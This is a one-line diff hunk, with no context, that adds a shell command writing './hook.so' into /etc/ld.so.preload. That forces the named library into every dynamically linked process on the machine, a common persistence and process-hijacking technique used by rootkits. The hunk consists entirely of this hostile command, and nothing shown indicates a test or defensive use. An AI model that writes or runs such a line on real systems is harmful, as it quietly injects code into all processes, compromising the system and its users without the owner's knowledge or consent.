@@ -1,0 +1,1 @@
+echo ./hook.so | tee /etc/ld.so.preload
